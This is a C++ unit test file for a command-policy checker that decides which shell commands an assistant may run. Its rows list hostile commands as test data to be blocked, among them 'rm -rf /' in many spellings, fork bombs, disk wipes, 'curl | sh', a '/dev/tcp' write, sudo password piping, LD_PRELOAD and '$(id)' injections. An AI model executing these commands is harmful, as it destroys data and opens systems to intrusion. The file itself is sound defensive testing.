#include "policy/shell/check_command.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "schemas/base/limits.h"
#include "schemas/json/json.h"
#include "tests/corpus.h"

namespace bartizan {
namespace {

/// The programs of an assistant that looks at a project, and nothing of the shell's.
CommandForm plain_form() {
  return {.programs = {"git",     "ls",    "grep", "echo", "python3",       "cargo",
                       "find",    "awk",   "sed",  "rm",   "env",           "nice",
                       "timeout", "xargs", "sh",   "bash", "busybox",       "eval",
                       "dd",      "chmod", "kill", "tee",  "/usr/bin/make", "printf",
                       "test",    "[",     "read", "wait", "hash",          "csh",
                       "fish",    "zsh",   "mv"},
          .arguments = {},
          .environment = {"LANG"}};
}

/// All of the shell's.
CommandForm open_form() {
  CommandForm form = plain_form();
  form.allow_pipes = form.allow_sequences = form.allow_redirections = true;
  form.allow_substitution = form.allow_variables = form.allow_globs = true;
  return form;
}

std::string_view told(std::optional<CommandRefusal> refusal) {
  return refusal ? text(*refusal) : "allowed";
}

std::string_view judge(std::string_view line, const CommandForm& form) {
  StepBudget steps{limits::schema_steps_max};
  return told(judge_command(line, compile_command_rules(form), steps));
}

std::string_view judge_list(const std::vector<std::string_view>& words, const CommandForm& form) {
  StepBudget steps{limits::schema_steps_max};
  return told(judge_command(words, compile_command_rules(form), steps));
}

struct Row {
  std::string_view line, want;
};

template <std::size_t N>
void expect_rows(const CommandForm& form, const Row (&rows)[N]) {
  for (const Row& row : rows)
    EXPECT_EQ(judge(row.line, form), row.want) << row.line;
}

TEST(JudgeCommand, LetsPassProgramsOfTheList) {
  const Row rows[] = {
      {"ls", "allowed"},
      {"ls -la 'a b'", "allowed"},
      {"\"l\"s", "allowed"},
      {"\\ls", "allowed"},
      {"/usr/bin/make all", "allowed"},
      {"make all", "command_program"},
      {"/usr/bin/../bin/make", "command_program"},
      {"//usr/bin/make", "command_program"},
      {"/bin/ls", "command_program"},
      {"./ls", "command_program"},
      {"LS", "command_program"},
      {"lsx", "command_program"},
      {"l", "command_program"},
      {"''", "command_program"},
      {"cat x", "command_program"},
      {"l$'s'", "command_malformed"},
      {"ls $\"a\"", "command_malformed"},
      {"ls &>f cat", "command_malformed"},
      {"", "command_malformed"},
      {"  \n", "command_malformed"},
      {"LANG=C ls", "allowed"},
      {"PATH=/tmp ls", "command_environment"},
      {"LANG=C LD_PRELOAD=./x ls", "command_environment"},
      {"if ls; then ls; fi", "command_malformed"},
      {"ls '", "command_malformed"},
  };
  expect_rows(plain_form(), rows);
}

TEST(JudgeCommand, RefusesSyntaxThatIsNotDeclared) {
  const Row rows[] = {
      {"ls | grep a", "command_syntax"},
      {"ls; ls", "command_syntax"},
      {"ls & ", "command_syntax"},
      {"ls && ls", "command_syntax"},
      {"ls\nls", "command_syntax"},
      {"ls\n", "allowed"},
      {"(ls)", "command_syntax"},
      {"ls > f", "command_syntax"},
      {"ls 2>&1", "command_syntax"},
      {"grep a <<< b", "command_syntax"},
      {"echo $(ls)", "command_syntax"},
      {"echo `ls`", "command_syntax"},
      {"echo \"$(ls)\"", "command_syntax"},
      {"grep a <(ls)", "command_syntax"},
      {"echo $A", "command_syntax"},
      {"echo $((1))", "command_syntax"},
      {"ls *.md", "command_syntax"},
      {"ls ~", "command_syntax"},
      {"ls {a,b}", "command_syntax"},
      {"ls # a", "command_syntax"},
      {"l$A", "command_syntax"},
  };
  expect_rows(plain_form(), rows);
}

TEST(JudgeCommand, JudgesEveryCommandOfALine) {
  const Row rows[] = {
      {"ls | grep a", "allowed"},
      {"ls | cat", "command_program"},
      {"ls; cat", "command_program"},
      {"ls && (ls; cat)", "command_program"},
      {"ls & cat", "command_program"},
      {"ls\ncat", "command_program"},
      {"echo $(cat x)", "command_program"},
      {"echo \"`cat x`\"", "command_program"},
      {"echo $(echo $(cat x))", "command_program"},
      {"grep a <(cat x)", "command_program"},
      {"grep a < <(cat x)", "command_syntax"},
      {"echo $(ls)", "allowed"},
      {"$A x", "command_program"},
      {"$(echo cat) x", "command_program"},
      {"c${A}t x", "command_program"},
      {"/bin/c?t x", "command_program"},
      {"{cat,x}", "command_program"},
      {"ls > f 2>&1", "allowed"},
      {"ls > $A", "command_syntax"},
      {"ls # a", "command_syntax"},
      {"LANG=$(cat x) ls", "command_program"},
      {"grep a <<E\nb\nE\n", "allowed"},
  };
  expect_rows(open_form(), rows);
}

TEST(JudgeCommand, LooksThroughProgramsThatRunOthers) {
  const Row rows[] = {
      {"env ls", "allowed"},
      {"env -i LANG=C ls -l", "allowed"},
      {"env LD_PRELOAD=x ls", "command_environment"},
      {"env cat", "command_program"},
      {"env -S 'cat x'", "command_program"},
      {"env --split-string='cat x'", "command_program"},
      {"env -u A -- cat", "command_program"},
      {"env -uA ls", "allowed"},
      {"env --unset A ls", "allowed"},
      {"nice ls", "allowed"},
      {"nice -n 5 cat", "command_program"},
      {"nice -5 nice ls", "allowed"},
      {"timeout 5 ls", "allowed"},
      {"timeout -k 1 5 cat", "command_program"},
      {"timeout --signal=KILL 5 ls", "allowed"},
      {"timeout --no-such 5 ls", "command_program"},
      {"timeout 5s env nice ls", "allowed"},
      {"nohup ls", "command_program"},
      {"exec -a x ls", "command_program"},
      {"xargs", "allowed"},
      {"xargs -n 1 ls", "allowed"},
      {"xargs -I{} cat {}", "command_program"},
      {"xargs -I {} ls {}", "allowed"},
      {"xargs --replace ls {}", "allowed"},
      {"xargs --replace={} ls {}", "allowed"},
      {"xargs -I % sh -c 'echo %'", "command_program"},
      {"xargs -rI% ls", "command_program"},
      {"xargs --replace=% ls", "command_program"},
      {"xargs --eof touch ls pwn", "command_program"},
      {"xargs --max-lines touch ls", "command_program"},
      {"xargs --replace touch ls", "command_program"},
      {"xargs --eof=x ls", "allowed"},
      {"xargs --max-args 1 ls", "allowed"},
      {"xargs find . -name x", "command_program"},
      {"csh -c ls", "command_program"},
      {"fish -c ls", "command_program"},
      {"zsh -c ls", "command_program"},
      {"xargs rm -rf", "command_blocked"},
      {"sh -c ls", "allowed"},
      {"sh -c 'ls -l'", "allowed"},
      {"sh -ec ls", "allowed"},
      {"bash --norc -c 'sh -c cat'", "command_program"},
      {"sh -c 'ls; ls'", "command_syntax"},
      {"sh -c 'ls", "command_malformed"},
      {"sh -c \"l's\"", "command_malformed"},
      {"sh", "command_program"},
      {"sh script", "command_program"},
      {"sh -s", "command_program"},
      {"bash -i", "command_program"},
      {"bash --rcfile x -c ls", "command_program"},
      {"busybox ls", "allowed"},
      {"busybox cat x", "command_program"},
      {"busybox sh -c cat", "command_program"},
      {"eval ls -l", "allowed"},
      {"eval 'l''s'", "allowed"},
      {"eval cat x", "command_program"},
      {"eval 'ls;' ls", "command_syntax"},
      {"find . -name '*.md'", "allowed"},
      {"find . -exec ls {} \\;", "allowed"},
      {"find . -exec cat {} +", "command_program"},
      {"find . -exec ls {} + -execdir cat {} \\;", "command_program"},
      {"find . -exec sh -c cat \\;", "command_program"},
      {"find . -exec echo + cat \\;", "allowed"},
      {"find . -exec ls", "command_malformed"},
      {"find . -exec \\;", "command_malformed"},
      {"sh -c 'sh -c \"sh -c ls\"'", "allowed"},
  };
  expect_rows(plain_form(), rows);
  EXPECT_EQ(judge("timeout $A ls", open_form()), "command_program");
  EXPECT_EQ(judge("timeout -k $A ls ls", open_form()), "command_program");
  EXPECT_EQ(judge("find . {-exec,touch,x,\\;}", open_form()), "command_program");
  EXPECT_EQ(judge("find . -nam*", open_form()), "command_program");
  EXPECT_EQ(judge("find $A", open_form()), "command_program");
  EXPECT_EQ(judge("ls | xargs find", open_form()), "command_program");
  EXPECT_EQ(judge("env A=$A ls", open_form()), "command_program");
  EXPECT_EQ(judge("sh -c \"$A\"", open_form()), "command_program");
  EXPECT_EQ(judge("curl x | sh", open_form()), "command_program");
  EXPECT_EQ(judge("eval $A", open_form()), "command_program");
  std::string deep = "ls";
  for (int i = 0; i < 40; ++i)
    deep = "nice " + deep;
  EXPECT_EQ(judge(deep, plain_form()), "command_malformed");
}

TEST(JudgeCommand, RefusesBuiltinsThatEvaluateWords) {
  const Row rows[] = {
      {"printf '%s' x", "allowed"},
      {"printf -v 'x[$(id)]' hi", "command_program"},
      {"printf -vx hi", "command_program"},
      {"printf $A x hi", "command_program"},
      {"printf {-v,x} hi", "command_program"},
      {"builtin printf -v x hi", "command_program"},
      {"sh -c 'printf -v x hi'", "command_program"},
      {"test -f x", "allowed"},
      {"test -v 'x[$(id)]'", "command_program"},
      {"test ! -v x", "command_program"},
      {"'[' -f x ]", "allowed"},
      {"'[' -v x ]", "command_program"},
      {"read 'x[$(id)]'", "command_program"},
      {"wait -n -p 'x[$(id)]'", "command_program"},
      {"hash -p ./x ls", "command_program"},
  };
  expect_rows(open_form(), rows);
}

TEST(JudgeCommand, RefusesOtherAccountsUnlessTheyAreAllowed) {
  CommandForm form = open_form();
  for (const std::string_view line :
       {"sudo ls", "echo pw | sudo -S ls", "sudo -S ls <<< pw", "doas ls", "su -c ls", "pkexec ls",
        "sudo -nS ls", "/usr/bin/sudo ls", "sudo", "s\"u\"do ls", "env sudo ls"})
    EXPECT_EQ(judge(line, form), "command_account") << line;
  form.allow_sudo = true;
  const Row rows[] = {
      {"sudo ls", "allowed"},
      {"sudo -n -u ann ls", "allowed"},
      {"sudo --user=ann ls", "allowed"},
      {"sudo LANG=C ls", "allowed"},
      {"sudo LD_PRELOAD=x ls", "command_environment"},
      {"sudo cat", "command_program"},
      {"doas -u ann ls", "allowed"},
      {"sudo -S ls", "command_account"},
      {"sudo -nS ls", "command_account"},
      {"sudo -kS -p '' ls", "command_account"},
      {"sudo --stdin ls", "command_account"},
      {"sudo --std ls", "command_account"},
      {"echo pw | sudo -S ls", "command_account"},
      {"sudo -S ls <<< pw", "command_account"},
      {"sudo -i", "command_account"},
      {"sudo -s", "command_account"},
      {"sudo -A ls", "command_account"},
      {"sudo $A ls", "command_account"},
      {"su -c ls", "command_account"},
      {"sudo rm -rf /", "command_blocked"},
      {"/usr/bin/sudo ls", "allowed"},
      {"/bin/doas ls", "allowed"},
      {"./sudo ls", "command_program"},
      {"/tmp/evil/doas ls", "command_program"},
      {"/bin/../tmp/sudo ls", "command_program"},
  };
  expect_rows(form, rows);
}

TEST(JudgeCommand, BlocksWhatDestroysAMachineInAnySpelling) {
  for (const std::string_view line : {
           "rm -rf /",
           "rm -fr /",
           "rm -r -f /",
           "rm -f -R /",
           "rm --recursive --force /",
           "rm --rec /",
           "rm / -rf",
           "rm -rfv -- /",
           "r\"m\" '-rf' /",
           "\\rm -rf /",
           "/bin/../bin/rm -rf /",
           "rm -rf //",
           "rm -rf /.",
           "rm -rf /../",
           "rm -rf /etc/..",
           "rm   -rf\t/",
           "rm $'-rf' $'\\x2f'",
           "rm -rf /*",
           "rm -rf '/*'",
           "rm -rf ~",
           "rm -rf ~/",
           "rm -rf $HOME",
           "rm -rf \"$A/\"",
           "rm -rf $A/*",
           "rm -rf *",
           "rm -rf {/,x}",
           "rm -rf /tmp/{x,../..}",
           "rm -rf /{etc,x}",
           "rm {-rf,x} /",
           "rm {-rf,/}",
           "rm -rf /home/ann",
           "rm -rf /home/ann/*",
           "rm -rf /Users/ann/",
           "echo x | tee /dev/rdisk0",
           "echo x | tee /dev/block/sda",
           "echo b > /proc/sysrq-trigger",
           "rm -rf /home",
           "rm -rf /etc/",
           "rm -rf /usr/*",
           "rm -rf /v*",
           "rm -rf /usr/local/lib/x",
           "rm -r /etc/nginx/../ssh",
           "rm -r /var/lib/postgresql/15",
           "rm -r /var/l*",
           "rm -r /var/li?/x",
           "rm -r /lib64/x",
           "rm -r /root/.ssh",
           "rm -r /dev/shm",
           "rm -r /tmp/../sbin/x",
           "rm -r ~/../../etc",
           "rm -r //usr//share",
           "chmod -R 777 /usr/share/doc",
           "chown -R a /boot/grub",
           "find /etc/ssl -delete",
           "mv /etc /tmp/x",
           "mv /etc/passwd x",
           "mv x /etc/passwd",
           "mv -f x /usr/local/bin/ls",
           "mv -t /etc x y",
           "mv -ft/etc x",
           "mv --target-directory=/sbin x",
           "mv --target=/sbin x",
           "mv /home /tmp/x",
           "mv /home/ann /tmp/x",
           "mv -t /tmp /home",
           "mv -t /tmp /home/ann",
           "mv -ft /tmp x /srv",
           "mv --target-directory /tmp /var",
           "mv --t /etc x",
           "mv x /et?/passwd",
           "mv x /e*/passwd",
           "mv x /./et?/passwd",
           "mv x //e*/passwd",
           "mv x /tmp/../e*/passwd",
           "mv x /$A/passwd",
           "mv x /u{s,s}r/bin/ls",
           "mv /et{c,}/passwd x",
           "mv x /var/l*/x",
           "mv -- -t /etc",
           "mv {/etc,x} y",
           "mv /e* x",
           "sudo mv x /boot/x",
           "rm -rf ../../..",
           "rm -rf x /",
           "rm -r --no-preserve-root /x",
           "rm $A /",
           "sudo rm -rf /",
           "env rm -rf /",
           "nice -n 1 timeout 5 rm -rf /",
           "sh -c 'rm -rf /'",
           "eval rm -rf /",
           "echo $(rm -rf /)",
           "ls; rm -rf /",
           "ls | xargs rm -rf",
           "find / -delete",
           "find / -exec rm -rf {} \\;",
           "find . -exec rm -rf / \\;",
           "find . -exec rm + -rf / \\;",
           "chmod -R 777 /",
           "chmod 777 -R /etc",
           "chown -R a:a /",
           "mkfs /dev/x",
           "mkfs.ext4 /dev/sda1",
           "/sbin/mkfs.ext4 x",
           "wipefs -a x",
           "dd if=/dev/zero of=/dev/sda",
           "dd of=/dev/../dev/sda",
           "dd of=/dev/shm/../sda",
           "dd of=$A",
           "ls > /dev/sda",
           "echo x | tee /dev/nvme0n1",
           "ls > /dev/tcp/1.2.3.4/80",
           "shutdown -h now",
           "reboot",
           "halt",
           "poweroff",
           "systemctl reboot",
           "init 0",
           "kill -9 -1",
           "kill -s KILL -- -1",
           ":(){ :|:& };:",
           ":() { : | : & } ; :",
           "f(){ f|f& };f",
           "function f { f | f & }; f",
       }) {
    EXPECT_EQ(judge(line, open_form()), "command_blocked") << line;
  }
  for (const std::string_view line : {"rm -rf build",
                                      "rm -f /",
                                      "rm -rf /srv/data/x",
                                      "rm -rf /var/log/x",
                                      "rm -rf /var/library",
                                      "rm -rf /opt/x/etc",
                                      "rm -rf ../lib/build",
                                      "rm /etc/x",
                                      "mv a b",
                                      "mv *.log /var/log/old",
                                      "mv $A x",
                                      "mv x ~/",
                                      "mv x /home/ann",
                                      "mv -t /srv/data x y",
                                      "mv -t /home/ann x",
                                      "mv --target-directory=/srv/data x",
                                      "mv x /srv/*/y",
                                      "mv /srv/data/x /tmp/",
                                      "find /srv/data -delete",
                                      "rm -rf /home/ann/x",
                                      "rm -rf '{a,b}'",
                                      "echo {a,b}",
                                      "rm -rf ./build/../x",
                                      "rm -rf /tmp/a*",
                                      "echo rm -rf /",
                                      "grep 'rm -rf /' x",
                                      "echo ':(){ :|:& };:'",
                                      "chmod 644 /etc",
                                      "chmod -R 755 build",
                                      "dd if=a of=b",
                                      "dd if=a of=/dev/null",
                                      "ls > /dev/null",
                                      "ls /dev",
                                      "kill -9 123",
                                      "kill -1 123",
                                      "find . -delete",
                                      "rm -- -rf /",
                                      "rm $A"}) {
    EXPECT_EQ(judge(line, open_form()), "allowed") << line;
  }
}

TEST(JudgeCommand, HoldsArgumentsAgainstTheirPatterns) {
  CommandForm form = open_form();
  form.arguments["git"] = {"status|log|show", "--oneline", "-n", R"(\d+)", "[^ ]*", "--author=.*"};
  form.arguments["ls"] = {};
  const Row rows[] = {
      {"git", "allowed"},
      {"git log --oneline -n 20", "allowed"},
      {"git show HEAD~1:'a b'", "command_argument"},
      {"git show HEAD~1:a", "allowed"},
      {"git log --author='a b'", "allowed"},
      // A wide pattern takes no option.
      {"git log --upload-pack=x", "command_argument"},
      {"git log -p", "command_argument"},
      {"git -c core.pager=x log", "command_argument"},
      {"git log -- -p", "command_argument"},
      {"git log -nx", "command_argument"},
      {"git log $A", "command_argument"},
      {"git log *", "command_argument"},
      {"git log $(ls)", "command_argument"},
      {"ls -l", "command_argument"},
      {"ls", "allowed"},
      {"nice git log -p", "command_argument"},
      {"sh -c 'git log -p'", "command_argument"},
  };
  expect_rows(form, rows);
  form.arguments["echo"] = {"[a-y]{0,100}|b*"};
  EXPECT_EQ(judge("echo bbb", form), "allowed");
  StepBudget steps{10};
  EXPECT_EQ(told(judge_command(std::string_view("echo bbb"), compile_command_rules(form), steps)),
            "command_costly");
}

TEST(JudgeCommand, JudgesListsOfWordsWithoutAShell) {
  const CommandForm form = plain_form();
  EXPECT_EQ(judge_list({"ls", "-la", "a b", "$(id)", "*", ";", "|", "{a,b}", "~"}, form),
            "allowed");
  EXPECT_EQ(judge_list({"git", "commit", "-m", "first\n\nsecond"}, form), "allowed");
  EXPECT_EQ(judge_list({"cat", "x"}, form), "command_program");
  EXPECT_EQ(judge_list({"LANG=C", "ls"}, form), "command_program");
  EXPECT_EQ(judge_list({"ls -la"}, form), "command_program");
  EXPECT_EQ(judge_list({"rm", "-rf", "/"}, form), "command_blocked");
  EXPECT_EQ(judge_list({"rm", "-rf", "/*"}, form), "command_blocked");
  EXPECT_EQ(judge_list({"sh", "-c", "ls; cat"}, form), "command_syntax");
  EXPECT_EQ(judge_list({"sh", "-c", "ls; ls"}, form), "command_syntax");
  EXPECT_EQ(judge_list({"env", "ls"}, form), "allowed");
  EXPECT_EQ(judge_list({}, form), "command_malformed");
  EXPECT_EQ(judge_list({"ls", std::string_view("a\0b", 3)}, form), "command_malformed");
  EXPECT_EQ(judge_list({"ls", "\x1b[2J"}, form), "command_malformed");
  EXPECT_EQ(judge_list({"ls", "\xff"}, form), "command_malformed");
  const std::vector<std::string_view> many(limits::command_words_max + 1, "ls");
  EXPECT_EQ(judge_list(many, form), "command_malformed");
}

TEST(JudgeCommand, JudgesArgumentsOfOneProgram) {
  CommandForm form = plain_form();
  form.arguments_of = "git";
  const Row rows[] = {
      {"main", "allowed"},
      {"feature/a-b_c.1", "allowed"},
      {"bücher", "allowed"},
      {"user@host:path", "allowed"},
      {"ветка9", "allowed"},
      {"", "command_argument"},
      {"ｍain", "command_argument"},
      {"a；id", "command_argument"},
      {"a\u200bb", "command_argument"},
      {"a\u202eb", "command_argument"},
      {"a\u0085b", "command_argument"},
      {"a\u2028b", "command_argument"},
      {"a—b", "command_argument"},
      {"-x", "command_argument"},
      {"--upload-pack=x", "command_argument"},
      {"a b", "command_argument"},
      {"a;id", "command_argument"},
      {"$(id)", "command_argument"},
      {"`id`", "command_argument"},
      {"a|b", "command_argument"},
      {"a&b", "command_argument"},
      {"a\nb", "command_argument"},
      {"a\\b", "command_argument"},
      {"a'b", "command_argument"},
      {"a*", "command_argument"},
      {"~", "command_argument"},
      {"%0a", "command_argument"},
      {"a\rb", "command_malformed"},
  };
  expect_rows(form, rows);
  EXPECT_EQ(judge_list({"log", "main"}, form), "allowed");
  EXPECT_EQ(judge_list({"log", "-p"}, form), "command_argument");
  form.arguments["git"] = {"[a-z ~0-9]+", "--oneline"};
  EXPECT_EQ(judge("head~1", form), "allowed");
  EXPECT_EQ(judge("--oneline", form), "allowed");
  EXPECT_EQ(judge("-x", form), "command_argument");
}

std::vector<std::string> corpus_texts(const std::string& file, std::string_view member) {
  std::vector<std::string> texts;
  for (const std::string& line : corpus_lines(corpus_file("command-injection/" + file))) {
    JsonDocument document;
    const Bytes bytes(line);
    texts.emplace_back(document.read(bytes).value().find(member).text());
  }
  return texts;
}

TEST(JudgeCommand, StandsTheCorpus) {
  if (corpus_file("command-injection/attacks.jsonl").empty()) GTEST_SKIP() << "no corpus";
  const CommandForm form{
      .programs = {"git", "ls", "grep", "echo", "python3", "cargo", "find", "awk", "sed"}};
  CommandForm argument = form;
  argument.arguments_of = "git";
  const auto attacks = corpus_texts("attacks.jsonl", "payload");
  EXPECT_EQ(attacks.size(), 40U);
  for (const std::string& attack : attacks) {
    EXPECT_NE(judge(attack, form), "allowed") << attack;
    EXPECT_NE(judge(attack, argument), "allowed") << attack;
  }
  for (const std::string& command : corpus_texts("benign.jsonl", "command"))
    EXPECT_EQ(judge(command, form), "allowed") << command;
}

}  // namespace
}  // namespace bartizan
